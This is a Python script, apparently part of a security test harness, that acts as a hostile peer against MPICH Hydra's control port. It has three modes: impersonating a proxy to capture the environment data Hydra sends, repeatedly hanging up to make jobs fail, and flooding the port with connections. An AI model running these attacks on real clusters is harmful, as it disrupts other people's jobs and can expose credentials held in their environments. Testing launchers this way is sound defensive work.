#!/usr/bin/env python3
"""A hostile peer against MPICH Hydra's control port (hostile_hydra_test.sh).

Usage: attack_hydra.py HOST PORT MODE
  proxy0  connect and say "proxy 0" (a 4-byte id), as hydra_pmi_proxy does;
          print what Hydra sends back within 3 s after the status line
          (MPICH 4.0 sent the launch's whole environment to anyone who did)
  hangup  connect and close at once, 20 times (Hydra fails the job on a
          control connection that closes)
  flood   hold 300 connections for 3 s
Prints "MODE connected=N received=BYTES" first.
"""
import socket
import struct
import sys
import time

host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
connected = 0
received = b""
if mode == "proxy0":
    try:
        s = socket.create_connection((host, port), timeout=3)
        connected = 1
        s.sendall(struct.pack("i", 0))
        deadline = time.time() + 3
        while time.time() < deadline:
            chunk = s.recv(65536)
            if not chunk:
                break
            received += chunk
        s.close()
    except OSError as e:  # a timeout, or a connection Hydra's side closed
        print(f"note: {type(e).__name__}", file=sys.stderr)
elif mode == "hangup":
    for _ in range(20):
        try:
            socket.create_connection((host, port), timeout=3).close()
            connected += 1
        except OSError:
            pass
        time.sleep(0.02)
elif mode == "flood":
    held = []
    for _ in range(300):
        try:
            held.append(socket.create_connection((host, port), timeout=3))
        except OSError:
            break
    connected = len(held)
    time.sleep(3)
    for s in held:
        s.close()
print(f"{mode} connected={connected} received={len(received)}", flush=True)
sys.stdout.buffer.write(received)
